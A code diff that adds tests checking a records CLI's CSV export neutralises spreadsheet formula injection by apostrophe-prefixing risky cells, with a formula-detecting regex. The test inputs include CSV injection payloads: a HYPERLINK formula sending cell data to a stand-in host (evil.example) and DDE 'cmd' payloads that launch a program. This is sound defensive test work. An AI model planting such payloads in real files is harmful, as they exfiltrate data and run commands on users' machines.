@@ -1,4 +1,5 @@
 import { faultSize } from "@svc/testing/fault-size";
+import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { expect } from "vitest";
 import { type RecordsTown, test } from "../../../../testing/records-test.ts";
@@ -40,7 +41,24 @@ test("prints the exact text into a pipe", async ({ town }) => {
   await town.addRecord(slug, "name==SUM(A1)");
   const words = ["records", "export", slug, "--workspace", "sales"];
   const { body } = await town.backend.type(town.tokens.viewer, words, { request: { want: "text" } });
-  expect(body.text).toBe("name,body\n=SUM(A1),");
+  expect(body.text).toBe("name,body\n'=SUM(A1),");
+});
+
+test.for([
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "'=1+1",
+  "''-1",
+  "＝1+1",
+])("marks what a spreadsheet would run: %s", async (text, { town }) => {
+  const { slug } = await town.addCollection("name:text", "n:number", "status:choice:-,+x");
+  await town.addRecord(slug, `name=${text}`, "n=-1.5", "status=-");
+  const { content } = await town.as("viewer").run<Exported>(`records export ${slug}`);
+  expect(parse(content)[1]).toEqual([`'${text}`, "-1.5", "'-", ""]);
+  const jsonl = await town.as("viewer").run<Exported>(`records export ${slug} --as jsonl`);
+  expect(JSON.parse(jsonl.content).name).toBe(text);
 });
 
 test("refuses a CSV that would differ from the records, which JSON lines can represent", async ({ town }) => {
@@ -78,6 +96,10 @@ const hostile = fc.constantFrom(
   "\r",
   ";",
   "=",
+  "+",
+  "-",
+  "@",
+  "＝",
   "'",
   "\\",
   "\t",
@@ -130,12 +152,21 @@ test("an export imports to the same records, in both formats", async ({ town }) 
 async function expectSame(town: RecordsTown, from: string, fields: string[], format: string): Promise<void> {
   const words = ["records", "export", from, "--as", format, "--workspace", "sales"];
   const printed = await town.backend.type(town.tokens.viewer, words, { request: { want: "text" } });
+  if (format === "csv") expectNoFormula(printed.body.text ?? "");
   const copy = await town.addCollection(...fields);
   const sent = await town
     .as("editor")
     .send(`records import ${copy.slug} ./x.${format}`, printed.body.text ?? "");
   expect(sent.body.detail).toBeUndefined();
   expect(await stored(town, copy.slug)).toEqual(await stored(town, from));
+}
+
+/** The second column has numbers, which are no formulas. */
+function expectNoFormula(csv: string): void {
+  const rows: string[][] = parse(csv, { relax_column_count: true });
+  for (const cell of rows.flatMap((cells) => cells.toSpliced(1, 1))) {
+    expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+  }
 }
 
 /** The stored records, by field name. */
